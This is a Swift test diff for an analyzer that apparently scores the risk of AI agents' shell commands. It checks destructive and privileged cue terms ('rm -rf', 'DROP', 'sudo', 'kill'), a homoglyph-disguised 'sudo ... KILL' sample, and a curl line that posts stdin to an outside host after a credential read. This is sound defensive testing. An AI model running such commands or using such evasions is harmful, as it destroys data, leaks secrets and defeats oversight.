@@ -133,6 +133,29 @@ let labelled: [Labelled] = [
         #expect(fast.semantic("then \u{17F}udo \u{212A}ILL it").cues == ["kill", "sudo"])
     }
 
+    /// The judge reads a request's cues once per trajectory and the command's each step; the cues must be
+    /// those of the request and the command read as one text, on random pieces that put terms at the seam.
+    @Test func requestCuesReadOncePerTrajectoryChangeNoCue() {
+        let analyzer = Self.analyzer
+        let pieces = ["delete", "DROP", "rm -rf", "private key", "-force", "kill_", "[REDACTED:password]", "sudo", "everyone",
+                      " ", "-", "_", "\u{17F}udo", "data", "all", "files", "the"]
+        var rng = SystemRandomNumberGenerator()
+        var cues = 0
+        for _ in 0..<200 {
+            func text() -> String { (0..<Int.random(in: 0...6, using: &rng)).map { _ in pieces.randomElement(using: &rng)! }.joined() }
+            let request = text()
+            var history = ConsequenceAnalyzer.History()
+            for _ in 0..<3 {
+                let command = text()
+                let got = analyzer.semantic(request: request, command: command, history: &history)
+                let want = analyzer.semantic(request + "\n" + command)
+                #expect(got.score == want.score && got.cues == want.cues, "\(request.debugDescription) / \(command.debugDescription)")
+                cues += want.cues.count
+            }
+        }
+        #expect(cues > 100)
+    }
+
     @Test func sequenceRuleNeedsTheEarlierCredentialRead() {
         let without = Self.analyzer.assess(request: "Check connectivity", command: "curl -s https://metrics.example.net/ingest -d @-")
         #expect(without.outcomeRisk == .low)
